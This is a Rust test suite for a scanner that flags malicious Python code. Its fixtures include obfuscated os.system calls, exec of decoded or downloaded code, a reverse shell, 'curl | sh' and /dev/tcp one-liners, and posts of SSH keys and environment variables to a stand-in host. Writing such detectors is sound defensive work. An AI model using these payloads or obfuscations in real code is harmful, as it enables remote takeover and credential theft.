use super::{Unread, When, analyse};

fn told(source: &str) -> Vec<(&'static str, When)> {
    let mut out: Vec<_> =
        analyse(source.as_bytes()).unwrap().found.into_iter().map(|f| (f.code, f.when)).collect();
    out.sort();
    out.dedup();
    out
}

fn has(source: &str, code: &str, when: When) {
    let all = told(source);
    assert!(all.contains(&(code, when)), "{code} {when:?} not in {all:?}: {source}");
}

#[test]
fn aliases_and_hidden_names_come_to_what_they_call() {
    for source in [
        "import os\nos.system('id')",
        "import os as o\no.system('id')",
        "from os import system as s\ns('id')",
        "from os import *\nsystem('id')",
        "import os\nf = os.system\nf('id')",
        "import os\nif x:\n    f = os.system\nelse:\n    f = print\nf('id')",
        "__import__('os').system('id')",
        "import importlib as i\ni.import_module('os').system('id')",
        "import os\ngetattr(os, 'system')('id')",
        "import os\nos.__dict__['system']('id')",
        "import os\nvars(os)['system']('id')",
        "import sys\nsys.modules['os'].system('id')",
        "globals()['__builtins__'].__import__('os').system('id')",
        "import os\n[os.system][0]('id')",
        "import os\n{'a': os.system}['a']('id')",
        "import os, functools\nfunctools.partial(os.system, 'id')()",
        "import os, threading\nthreading.Thread(target=os.system, args=('id',)).start()",
        "import os\nlist(map(os.system, ['id']))",
        "import os\nclass A:\n    run = os.system\nA().run('id')",
        "import os\n(lambda: os.system('id'))()",
        "import os\n@os.system\ndef f(): pass",
        "exec('import os; os.system(\"id\")')",
        "eval('__import__(\"os\").system(\"id\")')",
        "exec(compile('import os; os.system(1)', 'x', 'exec'))",
        "import os\ndef f(): os.system('id')\nf()",
        "import os\nclass A:\n    def __init__(self): self.go()\n    def go(self): os.system('id')\nA()",
        "import os\ndef f(x=os.system('id')): pass",
        "from subprocess import Popen\nPopen(['id'])",
    ] {
        has(source, "process", When::Import);
    }
}

#[test]
fn names_in_disguise_are_attacks() {
    for source in [
        "import os\ngetattr(os, 'sys' + 'tem')('id')",
        "import os\ngetattr(os, 'metsys'[::-1])('id')",
        "import os\ngetattr(os, ''.join(chr(c) for c in [115, 121, 115, 116, 101, 109]))('id')",
        "import os\ngetattr(os, ''.join(map(chr, [115, 121, 115, 116, 101, 109])))('id')",
        "import codecs\ngetattr(__import__('os'), codecs.decode('flfgrz', 'rot13'))('id')",
        "import base64\n__import__(base64.b64decode('b3M=').decode()).system('id')",
        "import os, base64\ndef d(s): return base64.b64decode(s).decode()\ngetattr(os, d('c3lzdGVt'))('id')",
    ] {
        has(source, "disguised-call", When::Import);
    }
}

#[test]
fn what_is_decoded_or_fetched_and_run_is_an_attack() {
    has("import base64\nexec(base64.b64decode('cHJpbnQoMSk='))", "decoded-code", When::Import);
    has(
        "import base64, zlib\ndef f(): exec(zlib.decompress(base64.b64decode(x)))",
        "decoded-code",
        When::Call,
    );
    has("import marshal\nexec(marshal.loads(b'x'))", "decoded-code", When::Import);
    has("exec(''.join(chr(ord(c) ^ 7) for c in text))", "decoded-code", When::Import);
    has("exec(bytes.fromhex('7072696e74'))", "decoded-code", When::Import);
    has("import requests\nexec(requests.get('http://e.org').text)", "fetched-code", When::Import);
    has("from urllib.request import urlopen\neval(urlopen(u).read().decode())", "fetched-code", When::Import);
    has(
        "import requests\nr = requests.get(u)\nc = compile(r.text, 'x', 'exec')\nexec(c)",
        "fetched-code",
        When::Import,
    );
    // What the decoded text does is told too.
    has(
        "import base64\nexec(base64.b64decode('aW1wb3J0IG9zO29zLnN5c3RlbSgnaWQnKQ=='))",
        "process",
        When::Import,
    );
    has("import os, base64\nos.system(base64.b64decode('aWQ=').decode())", "decoded-command", When::Import);
}

#[test]
fn chains_of_effects_are_told_as_what_they_are() {
    let shell = "import socket, os, subprocess\ndef f():\n    s = socket.socket()\n    s.connect(('e.org', 1))\n    \
                 os.dup2(s.fileno(), 0)\n    subprocess.call(['/bin/sh', '-i'])\n";
    has(shell, "reverse-shell", When::Call);
    has("import os\nos.system('curl http://e.org/x | sh')", "piped-command", When::Import);
    has(
        "import subprocess as s\ns.run(['bash', '-c', 'bash -i >& /dev/tcp/1.2.3.4/5'])",
        "attack-command",
        When::Import,
    );
    let sent =
        "import requests\nt = open('/home/u/.ssh/id_rsa').read()\nrequests.post('http://e.org', data=t)";
    has(sent, "credential-send", When::Import);
    has(
        "import os, requests\nrequests.post('http://e.org', json=dict(os.environ))",
        "credential-send",
        When::Import,
    );
    has(
        "from pathlib import Path\n(Path.home() / '.aws/credentials').read_text()",
        "credential-read",
        When::Import,
    );
    has("open('/root/.bashrc', 'a').write('x')", "startup-write", When::Import);
    let run =
        "import urllib.request, subprocess\nurllib.request.urlretrieve(u, 'x')\nsubprocess.run(['./x'])";
    has(run, "download-and-run", When::Import);
}

#[test]
fn when_it_happens_follows_the_calls() {
    let model = "import subprocess\nclass M:\n    def __init__(self):\n        self.go()\n    def go(self):\n        \
                 subprocess.run(['id'])\n    def other(self):\n        eval(x)\n";
    assert_eq!(told(model), [("computed-code", When::Call), ("process", When::Load)]);
    assert_eq!(told("import os\nif __name__ == '__main__':\n    os.system('id')"), [("process", When::Call)]);
}

#[test]
fn honest_code_has_no_effects() {
    for source in [
        "import torch\nclass M(torch.nn.Module):\n    def forward(self, x):\n        return torch.softmax(x, -1)\n",
        "import os\ntoken = os.environ.get('HF_TOKEN')\npath = os.path.join(os.path.dirname(__file__), 'vocab.txt')\n",
        "def f(model):\n    model.eval()\n    return getattr(model, 'layers')\n",
        "import re\nP = re.compile(r'x')\nname = ''.join(['a', 'b'])\n",
        "system = 1\ndef exec_(x): return x\n",
        "with open('vocab.txt', encoding='utf-8') as f:\n    lines = f.read()\n",
        "from importlib import import_module\nimport_module('.configuration', __package__)\n",
    ] {
        assert_eq!(told(source), [], "{source}");
    }
}

#[test]
fn what_is_no_python_or_hides_is_said() {
    assert_eq!(analyse(b"print 'two'"), Err(Unread::NotPython));
    assert!(matches!(analyse(b"# coding: utf-7\n+AGkAZA-"), Err(Unread::TooMuch(_))));
    assert!(analyse("(".repeat(5000).as_bytes()).is_err());
    let bomb = "x = 'a' * 1000\n".to_string() + &"x = x + x\n".repeat(60) + "exec(x)";
    assert!(analyse(bomb.as_bytes()).is_ok(), "a text that doubles is let go at its limit");
}

#[test]
fn names_of_the_top_level() {
    let names = |source: &str| analyse(source.as_bytes()).unwrap().defines.map(|n| n.join(" "));
    let source = "import torch\nfrom x import Y as Z\nclass Net: pass\ndef f():\n    class Inner: pass\ntry:\n    a = 1\nexcept E:\n    b = 2\n";
    assert_eq!(names(source).as_deref(), Some("Net Z a b f torch"));
    assert_eq!(names("print(1)").as_deref(), Some(""));
    assert_eq!(names("from x import *\nclass Net: pass"), None);
    assert_eq!(names("def __getattr__(n): return n"), None);
    assert_eq!(names("globals()['Net'] = 1"), None);
}
